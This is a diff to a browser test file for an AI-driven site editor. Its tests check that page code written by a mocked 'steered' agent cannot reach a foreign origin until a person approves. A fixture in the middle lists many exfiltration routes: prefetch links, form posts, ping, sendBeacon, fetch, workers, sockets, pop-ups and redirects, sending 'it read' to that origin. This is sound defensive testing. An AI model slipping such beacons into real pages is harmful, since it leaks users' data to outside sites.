@@ -30,8 +30,9 @@ test.afterAll(() => new Promise((resolve) => server.close(resolve)));
 const page = (body: string) => `<!doctype html>\n<html lang="en">\n<title>Page</title>\n${body}\n</html>\n`;
 
 /** Tries all that leaves a page where it is, and says when each try has ended. */
-const leakingPage = (origin: string) =>
-  page(`<link rel="preconnect" href="${origin}/preconnect"><link rel="prefetch" href="${origin}/prefetch">
+const leaking = (
+  origin: string,
+) => `<link rel="preconnect" href="${origin}/preconnect"><link rel="prefetch" href="${origin}/prefetch">
 <link rel="dns-prefetch" href="${origin}"><link rel="preload" as="image" href="${origin}/preload">
 <link rel="modulepreload" href="${origin}/modulepreload"><link rel="stylesheet" href="${origin}/style.css">
 <link rel="icon" href="${origin}/icon"><link rel="manifest" href="${origin}/manifest">
@@ -45,13 +46,11 @@ const leakingPage = (origin: string) =>
 <iframe name="hidden" title="Hidden"></iframe>
 <form id="form" action="${origin}/form" method="post" target="hidden"><input name="what" value="it read"></form>
 <a id="ping" href="#here" ping="${origin}/ping">Ping</a>
-<a id="download" href="${origin}/download" download="x">Download</a>
 <script type="module">
 const ended = [];
 const attempt = async (name, work) => ended.push([name, await new Promise((r) => r(work())).then(() => "sent", () => "kept")]);
 document.querySelector("#form").submit();
 document.querySelector("#ping").click();
-document.querySelector("#download").click();
 window.open("${origin}/popup");
 navigator.sendBeacon("${origin}/beacon", "it read");
 await attempt("fetch", () => fetch("${origin}/fetch", { mode: "no-cors" }));
@@ -63,7 +62,7 @@ await attempt("socket", () => new Promise((open, fail) => {
 }));
 await fetch("/own.txt");
 document.body.append(JSON.stringify(ended));
-</script>`);
+</script>`;
 
 test("what a steered agent writes into a page sends nothing out until a person allows it", async ({
   page: browserPage,
@@ -72,7 +71,12 @@ test("what a steered agent writes into a page sends nothing out until a person a
 }) => {
   const instruction = await model.prepare(
     "Change it",
-    reply(call("write_file", { path: "index.html", content: leakingPage(foreign) })),
+    reply(
+      call("edit_file", {
+        path: "index.html",
+        edits: [{ oldText: "<h1>Welcome</h1>", newText: leaking(foreign) }],
+      }),
+    ),
     reply(say("Done.")),
   );
   const editor = editorOf(browserPage);
@@ -81,7 +85,7 @@ test("what a steered agent writes into a page sends nothing out until a person a
   await expect(editor.preview.getByRole("heading", { name: "Welcome" })).toBeVisible();
   await editor.ask(instruction);
   await expect(editor.preview.locator("body")).toContainText('[["fetch","kept"],["worker","kept"],["socket","kept"]]');
-  const asks = browserPage.getByText(previewWords.wantsToLoad(foreign, 0));
+  const asks = browserPage.getByText(previewWords.wantsToLoad(foreign));
   await expect(asks).toBeVisible();
   expect(arrived).toEqual([]);
 
@@ -103,6 +107,7 @@ for (const [way, body] of [
   ["meta refresh", (to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`],
   ["location", (to: string) => `<script>location.href = "${to}"</script>`],
   ["a form", (to: string) => `<form action="${to}" method="post"></form><script>document.forms[0].submit()</script>`],
+  ["a download", (to: string) => `<a href="${to}" download>x</a><script>document.links[0].click()</script>`],
   ["a link that is pressed", (to: string) => `<a href="${to}">x</a><script>document.links[0].click()</script>`],
 ] as const) {
   test(`the frame is led to no other site by ${way}`, async ({ page: browserPage, owner }) => {
@@ -126,7 +131,7 @@ test("what the published site uses already loads from the beginning, and nobody 
   await editor.open(await createConversation(owner, { "index.html": page(body) }));
   const image = editor.preview.getByRole("img", { name: "Used" });
   await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(5);
-  await expect(browserPage.getByText(previewWords.wantsToLoad(foreign, 0))).toBeHidden();
+  await expect(browserPage.getByText(previewWords.wantsToLoad(foreign))).toBeHidden();
 });
 
 test("who may not decide is told who can", async ({ page: browserPage, context, owner }) => {
